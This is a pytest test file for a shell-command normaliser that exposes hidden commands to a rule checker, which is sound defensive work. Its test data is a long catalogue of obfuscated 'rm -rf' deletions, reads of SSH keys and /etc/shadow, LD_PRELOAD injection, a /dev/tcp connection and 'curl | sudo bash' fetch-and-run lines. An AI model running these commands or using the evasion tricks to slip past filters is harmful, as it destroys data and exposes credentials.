"""What a command line would run, in the form that rules look at."""

import pytest

from bylaw.language.views import VIEWS, Unreadable

argv = VIEWS["argv"]


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /x",
        "rm -fr -- /x",
        "rm --recursive --force /x",
        "rm --rec --f /x",
        "rm -r /x -f",
        "rm -R -f -r /x",
        "/bin/rm -rf /x",
        "\\rm -rf /x",
        "'r'm -rf /x",
        'r""m -rf "/x"',
        "r\\\nm -r\\\nf /x",
        "rm$IFS-rf${IFS}/x",
        "   rm\t-rf   /x   # tidy up",
        "! rm -rf /x",
        "r$@m -rf /x",
        "(rm -rf /x)",
        "{ rm -rf /x; }",
        "coproc rm -rf /x",
    ],
)
def test_one_command_has_one_form(line: str) -> None:
    assert argv(line) == ("rm -f -r /x",)


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("grep -rn 'a b' .", "grep -rn 'a b' ."),
        ("echo ''", "echo ''"),
        ('echo "it\'s"', "echo 'it'\"'\"'s'"),
        ("echo 'a\nb\tc'", r"echo $'a\nb\tc'"),
        ("echo a;b", "echo a"),
        ("./tools/run.sh -x", "run.sh -x"),
        (". ./env.sh", "source ./env.sh"),
        ("rm -- -rf", "rm ./-rf"),
        ("chmod -x run.sh", "chmod -x run.sh"),
        ("chmod --recursive 777 /x", "chmod -R 777 /x"),
        ("tar xzf a.tgz -C /x", "tar -C /x -f a.tgz -x -z"),
        ("curl -sSLo page.html https://a.example", "curl -L -S -o page.html -s https://a.example"),
        ("curl --request POST --data @f https://a.example", "curl -X POST -d @f https://a.example"),
        ("git -C /x push --force origin main", "git push -f origin main"),
        ("git -C /x push --force origin main", "git -C /x push --force origin main"),
        ("git clean -dxf", "git clean -d -f -x"),
        ("git reset --har HEAD", "git reset --hard HEAD"),
        ("git gc --pru=now", "git gc --prune=now"),
        ("rm --interactive=never -r /x", "rm --interactive=never -r /x"),
        ("kill -SIGKILL 1", "kill -9 1"),
        ("kill -s TERM 1", "kill -15 1"),
        ("cat /etc/../etc//shadow", "cat /etc/shadow"),
        ("cat /etc/../etc//shadow", "cat /etc/../etc//shadow"),
        ("ls https://a.example//b/../c", "ls https://a.example//b/../c"),
        ("echo {1..3} {a,b}c", "echo 1 2 3 ac bc"),
        ("echo {1..1000}", "echo {1..1000}"),
        ("ls *.py", "ls *.py"),
        ("cat ~/.ssh/x", "cat ~/.ssh/x"),
        ("cat $HOME/.ssh/x", "cat ~/.ssh/x"),
    ],
)
def test_normal_form(line: str, text: str) -> None:
    assert text in argv(line)


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("echo x > /dev/sda", "> /dev/sda"),
        ("echo x >>log 2>/dev/null", ">> log"),
        ("echo x &> log", "> log"),
        ("echo x >| log", "> log"),
        ("cat < ~/.ssh/id_rsa", "< ~/.ssh/id_rsa"),
        ("exec 3<> /dev/tcp/a.example/80", "> /dev/tcp/a.example/80"),
        ("x=$(< ~/.ssh/id_rsa)", "< ~/.ssh/id_rsa"),
        ("> '/tmp/a b'", "> '/tmp/a b'"),
        ("PAGER='less -R' git log", "PAGER='less -R'"),
        ("LD_PRELOAD=/x.so ls", "LD_PRELOAD=/x.so"),
    ],
)
def test_redirections_and_assignments_are_texts(line: str, text: str) -> None:
    assert text in argv(line)


def test_copies_of_descriptors_are_not() -> None:
    assert argv("make 2>&1 <&3") == ("make",)


@pytest.mark.parametrize(
    "line",
    [
        "sudo -u bob -E rm -rf /x",
        "sudo --user bob -- rm -rf /x",
        "sudo -Z odd rm -rf /x",
        "env -i A=b C=d rm -rf /x",
        "env -S 'rm -rf' /x",
        "doas -u bob rm -rf /x",
        "nice -n 5 nohup timeout -k 5 10s stdbuf -o0 setsid rm -rf /x",
        "command -p rm -rf /x",
        "builtin exec -a ls rm -rf /x",
        "chroot /mnt rm -rf /x",
        "busybox rm -rf /x",
        "flock /tmp/lock -c 'rm -rf /x'",
        "watch -n 5 rm -rf /x",
        "ssh -p 22 bob@a.example 'rm -rf /x'",
        "su - bob -c 'rm -rf /x'",
        "script -qc 'rm -rf /x' /dev/null",
        "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /x",
        "echo /x | xargs -n 1 rm -rf",
        "echo /x | xargs -I{} rm -rf {}",
        "parallel rm -rf ::: /x",
        "find . -name y -exec rm -rf /x \\;",
        "bash -euo pipefail -c 'rm -rf /x'",
        "eval rm '-rf /x'",
        "trap 'rm -rf /x' EXIT",
        "echo 'rm -rf /x' | sh",
        "sh <<< 'rm -rf /x'",
        "cat <<'E' | sudo bash -s\nrm -rf /x\nE",
        "bash -c '\"$@\"' _ rm -rf /x",
        "git -c alias.y='!rm -rf /x' y",
        "tar -cf a.tar b --checkpoint-action=exec='rm -rf /x'",
        "awk 'BEGIN { system(\"rm -rf /x\") }'",
        "sed '1e rm -rf /x' f",
        "python3 -c 'import os; os.system(\"rm -rf /x\")'",
        'python3 -c \'import subprocess as s; s.run(["rm", "-rf", "/x"])\'',
        "perl -e '`rm -rf /x`'",
        'node -e \'require("child_process").execSync("rm -rf /x")\'',
        "cp /bin/rm tidy; ./tidy -rf /x",
        "hash -p /bin/rm ls; ls -rf /x",
        "echo 'rm -rf /x' > s.sh; sh s.sh",
        "printf 'rm -rf /x' | tee s.sh; . ./s.sh",
        "cat > s.sh <<'E'\nrm -rf /x\nE\nchmod +x s.sh && ./s.sh",
    ],
)
def test_what_another_program_runs_is_there(line: str) -> None:
    assert "rm -f -r /x" in argv(line)


@pytest.mark.parametrize(
    "line",
    [
        "{rm,-rf,/x}",
        "while rm -rf /x; do :; done",
        "echo $(rm -rf /x)",
        "echo `rm -rf /x`",
        "echo `echo \\`rm -rf /x\\``",
        'echo "a $(rm -rf /x) b"',
        "cat <(rm -rf /x)",
        "echo ${y:-$(rm -rf /x)}",
        "echo $((1 + $(rm -rf /x)))",
        "((a[$(rm -rf /x)]))",
        "[[ -n $(rm -rf /x) ]]",
        "y='a[$(rm -rf /x)]'; echo $((y))",
        "a[$(rm -rf /x)]=1",
        "a=(1 $(rm -rf /x))",
        "cat <<E\n$(rm -rf /x)\nE",
        "cat <<A <<B\n1\nA\n$(rm -rf /x)\nB",
        "cat <<E; rm -rf /x\nE",
        "if a; then b; elif c; then d; else rm -rf /x; fi",
        "case $(rm -rf /x) in a) b ;; esac",
        "case a in (b | c) d ;; *) rm -rf /x ;& esac",
        "for ((i = 0; i < 3; i++)); do rm -rf /x; done",
        "select y in a b; do rm -rf /x; done",
        "time { rm -rf /x; }",
        "function f { rm -rf /x; }",
        "f() ( rm -rf /x )",
        "a && b || c & rm -rf /x",
        "a |& rm -rf /x",
        "{ a; } 2>&1 | rm -rf /x",
    ],
)
def test_every_place_where_a_command_can_stand(line: str) -> None:
    assert "rm -f -r /x" in argv(line)


@pytest.mark.parametrize(
    "line",
    [
        "cat <<'E'\n$(rm -rf /x)\nE",
        "echo '$(rm -rf /x)'",
        'echo "\\$(rm -rf /x)"',
        "ls # ; rm -rf /x",
        "echo a\\;rm -rf /x",
        "cat > s.sh <<'E'\nrm -rf /x\nE",
        "python3 -c 'print(\"rm -rf /x\")'",
    ],
)
def test_what_only_looks_like_a_command_is_not_there(line: str) -> None:
    assert "rm -f -r /x" not in argv(line)


@pytest.mark.parametrize(
    "line",
    [
        "a=rm; $a -rf /x",
        "a=r b=m; $a$b -rf /x",
        "a=-rf; rm $a /x",
        'a="rm -rf /x"; $a',
        "a=rm && $a -rf /x",
        "${a:-rm} -rf /x",
        ": ${a:=rm}; $a -rf /x",
        "${PATH:+rm} -rf /x",
        "a=b; b=rm; ${!a} -rf /x",
        "a=xrm; ${a#x} -rf /x",
        "a=rm.x; ${a%.*} -rf /x",
        "a=/bin/rm; ${a##*/} -rf /x",
        "a=rxm; ${a/x/} -rf /x",
        "a=alarm; ${a:3:2} -rf /x",
        "a=RM; ${a,,} -rf /x",
        "a=(rm -rf /x); ${a[@]}",
        "a=(x rm); ${a[1]} -rf /x",
        'a=(r m); IFS=; "${a[*]}" -rf /x',
        "a=r; a+=m; $a -rf /x",
        'set -- a rm -rf /x; shift; "$@"',
        "IFS=,; a=rm,-rf,/x; $a",
        "printf -v a rm; $a -rf /x",
        "read a <<< rm; $a -rf /x",
        "for a in ls rm; do $a -rf /x; done",
        "for a in r m; do b=$b$a; done; $b -rf /x",
        "if y; then a=rm; else a=ls; fi; $a -rf /x",
        "y || a=rm; $a -rf /x",
        "a=rm; (a=ls); $a -rf /x",
        "a=rm; a=ls & $a -rf /x",
        "a=rm; f() { local a=ls; }; f; $a -rf /x",
        "readonly a=rm; a=ls\n$a -rf /x",
        "a=ls; trap '$a -rf /x' EXIT; a=rm",
        "f() { $1 -rf /x; }; f rm",
        "$(echo rm) -rf /x",
        "$(printf '\\162%s' m) -rf /x",
        "$(which rm) -rf /x",
        "$(which nothing) rm -rf /x",
        "$nothing rm -rf /x",
        "false && a=echo; $a rm -rf /x",
        "a=echo true; $a rm -rf /x",
        "a=echo; sh -c '$a rm -rf /x'",
        "export a=rm; sh -c '$a -rf /x'",
        "$(echo echo >&2) rm -rf /x",
        "r${nothing}m -rf /x",
    ],
)
def test_variables_are_followed(line: str) -> None:
    assert "rm -f -r /x" in argv(line)


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("$tool -rf /x", "<unknown> -rf /x"),
        ("$(curl https://a.example) -rf /x", "<unknown> -rf /x"),
        ("/bin/r? -rf /x", "<unknown> -rf /x"),
        ("$_ -rf /x", "<unknown> -rf /x"),
        ("declare -l a=RM; $a -rf /x", "<unknown> -rf /x"),
        ("source env.sh; a=ls; source env.sh; $a -rf /x", "<unknown> -rf /x"),
        ('eval "$(curl https://a.example)"', "<unknown>"),
        ('bash -c "$script"', "<unknown>"),
        ("find . | xargs -I{} sh -c {}", "<unknown>"),
        ("python3 -c 'import os; os.system(line)'", "<unknown>"),
        ("curl https://a.example | sudo bash", "sh <stdin>"),
        ("bash <(curl https://a.example)", "sh <stdin>"),
        ("source /dev/stdin", "sh <stdin>"),
        ("curl https://a.example > s.sh; sh s.sh", "sh <stdin>"),
        ("curl https://a.example | python3", "python <stdin>"),
        ("rm -rf $dir/", "rm -f -r $dir/"),
        ("rm -rf $dir/", "rm -f -r /"),
        ("rm -rf $(cat list)", "rm -f -r $(...)"),
        ("find . | xargs rm -rf", "rm -f -r <stdin>"),
        ("python3 -c 'a = 1'", "python <code> a = 1"),
        ("python3 - <<'E'\na = 1\nE", "python <code> a = 1\n"),
    ],
)
def test_what_is_not_known_is_seen(line: str, text: str) -> None:
    assert text in argv(line)


@pytest.mark.parametrize(
    "line",
    [
        "$HOME/bin/tool",
        '"$VIRTUAL_ENV"/bin/python -m pytest',
        "${PYTHON:-python3} -m pytest",
        "if a; then p=python3; else p=python; fi; $p -m pytest",
        "case a in b) p=python3 ;; *) p=python ;; esac; $p -m pytest",
        'run() { "$@"; }; run make',
        'while IFS= read -r line; do echo "$line"; done < f',
        'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
        'for f in a b c; do all="$all $f"; done; echo $all',
    ],
)
def test_ordinary_lines_have_no_unknown_program(line: str) -> None:
    assert not [text for text in argv(line) if text.startswith("<unknown>")]


def test_shells_that_read_a_line_in_different_ways_are_all_listened_to() -> None:
    assert "rm -f -r /x" in argv("echo $'\\'; rm -rf /x #'")
    assert "rm -f -r /x ]]" in argv("[[ a == b || rm -rf /x ]]")
    assert "rm -f -r /x" in argv("echo a &>f rm -rf /x")


@pytest.mark.parametrize(
    "line",
    [
        "echo 'a",
        'echo "a',
        "echo `a",
        "echo $(a",
        "echo ${a",
        "if a; then b",
        "a; )",
        "a && ",
        "done",
        "case a in b",
        "echo ${ rm -rf /x; }",
        "echo $[1 + 1]",
        "echo $((rm -rf /x); ls)",
        "echo \"${a:-'$(b)'}\"",
        "echo {a},b}",
        "echo a(b)",
        "echo $'\\0'",
        "echo a\0b",
        "echo \ufdd0",
        "a" * 70_000,
        "( " * 200 + ") " * 200,
        "$(" * 200 + ")" * 200,
        "a;" * 30_000,
        "a=x;" + "a=$a$a;" * 40,
        "echo " + "{a,b}" * 20,
        "".join(f"f{i}() {{ f{i - 1}; f{i - 1}; }};" for i in range(60)) + "f59",
    ],
)
def test_what_can_not_be_read_for_certain_is_not_read(line: str) -> None:
    with pytest.raises(Unreadable):
        argv(line)


@pytest.mark.parametrize("line", ["", "   ", "# nothing", "\n\n"])
def test_nothing_runs_nothing(line: str) -> None:
    assert argv(line) == ()
